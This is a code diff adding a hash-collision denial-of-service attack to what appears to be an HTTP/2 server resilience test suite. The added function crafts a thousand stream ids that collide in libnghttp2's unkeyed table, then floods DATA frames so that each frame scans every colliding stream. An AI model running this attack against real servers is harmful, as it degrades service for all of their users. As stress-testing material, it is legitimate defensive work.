@@ -233,6 +233,18 @@ def frames_of_a_byte(index, facts):
             yield h2(H2_DATA, 0, call, b"x") * batch
 
 
+def colliding_http2_ids(index, facts):
+    """A thousand streams at one place of libnghttp2's table, which has no random key. Each frame of the last one looks at all of them."""
+    # The place is the upper bits of the id times this number (lib/nghttp2_map.c). These ids share its upper 11 bits.
+    inverse = pow(2_654_435_769, -1, 1 << 32)
+    colliding = sorted(itertools.islice((call for odd in range(1, 1 << 21, 2) if (call := odd * inverse % (1 << 32)) < 1 << 31), 1_000))
+    size, batch = 4_000_000, 8_000
+    yield hello() + b"".join(wire.call(call, WATCH) for call in colliding[:-1])
+    yield LARGE_PARTS + h2(H2_HEADERS, END_HEADERS, colliding[-1], wire.headers(CHECK)) + h2(H2_DATA, 0, colliding[-1], b"\0" + size.to_bytes(4, "big"))
+    while True:
+        yield h2(H2_DATA, 0, colliding[-1], b"x") * batch
+
+
 def priorities_of_waiting_streams(index, facts):
     """A thousand answers wait for the connection's window. PRIORITY frames then make each of two streams the parent of all others, in turn."""
     def prefer(stream, parent):
@@ -668,6 +680,7 @@ ATTACKS = (
     Attack("trailers by HPACK's table", 2, "cd98cb66: 168 ms for everybody, without a session", trailers_of_the_table),
     Attack("the shortest HEADERS", 2, "ba825cdf: not judged", shortest_headers),
     Attack("DATA frames of a byte", 2, "ba825cdf: not judged", frames_of_a_byte, connections=4),
+    Attack("colliding HTTP/2 stream ids", 2, "831c3353: not judged", colliding_http2_ids, connections=4),
     Attack("priorities of waiting streams", 2, "6617c72b: 1.3 s for everybody", priorities_of_waiting_streams, connections=4),
     Attack("files that are slow to close", 2, "6617c72b: everybody frozen as long as the client liked, SIGTERM too", slow_files, connections=2,
            every_connection_ends=True),
